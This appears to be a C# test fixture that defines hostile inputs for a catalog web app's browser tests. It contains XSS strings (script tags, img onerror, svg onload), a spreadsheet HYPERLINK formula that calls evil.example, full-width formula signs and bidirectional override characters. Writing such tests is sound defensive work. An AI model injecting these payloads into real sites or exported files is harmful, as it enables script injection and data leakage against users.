namespace PowerCatalog.Browser.Tests.Hostile;

/// <summary>A kind of text that must stay text.</summary>
/// <param name="Name">The kind.</param>
/// <param name="Code">The code of the power that carries it in every element.</param>
/// <param name="Write">The text for a place (by its name), of so many characters at most.</param>
/// <param name="Shown">The same as the catalog keeps it.</param>
public sealed record Payload(string Name, string Code, Func<string, int, string> Write, Func<string, int, string> Shown)
{
    /// <summary>What a page made out of a payload would hold; the QR code, a page's one drawing, has a class.</summary>
    public const string Injected = ".hostile, main img, main script, main svg:not(.code), main iframe, main style, main base";

    private const int Longest = 10_000;

    /// <summary>Markup and script.</summary>
    public static readonly Payload Markup = Plain(
        "markup", "\"><img/src=x/onerror=alert(1)>",
        place =>
            $"<script>alert('{place}')</script><img src=x onerror=alert(1)><b class=hostile>{place}</b></textarea></title><svg "
                + $"onload=alert(1)>\"'`&lt&amp&#60{{{{7*7}}}}");

    /// <summary>A formula, as a spreadsheet takes it.</summary>
    public static readonly Payload Formula = Plain("formula", "=1+1", place => $"=HYPERLINK(\"http://evil.example/?{place}\",\"{place}\")");

    /// <summary>A formula that begins with a full-width sign, as Chinese versions take it.</summary>
    public static readonly Payload WideFormula = Plain("wide-formula", "＋1", place => $"＝1＋1 {place}");

    /// <summary>Letters from right to left, and marks that turn the order of others: the marks are taken off, the letters stay.</summary>
    public static readonly Payload RightToLeft = new(
        "right-to-left", "אב-1", (place, _) => $"{place} \u202Eاللغة العربية\u202C עברית\u200F \u2066abc\u2069", (place, _) =>
            $"{place} اللغة العربية עברית abc");

    /// <summary>As long as may be, with nowhere to break a line.</summary>
    public static readonly Payload Endless = new("endless", new string('9', 100), Fill, Fill);

    /// <summary>All.</summary>
    public static readonly IReadOnlyList<Payload> All = [Markup, Formula, WideFormula, RightToLeft, Endless];

    private static Payload Plain(string name, string code, Func<string, string> write) =>
        new(name, code, (place, _) => write(place), (place, _) => write(place));

    private static string Fill(string place, int longest) => place + new string('W', Math.Min(longest, Longest) - place.Length);
}
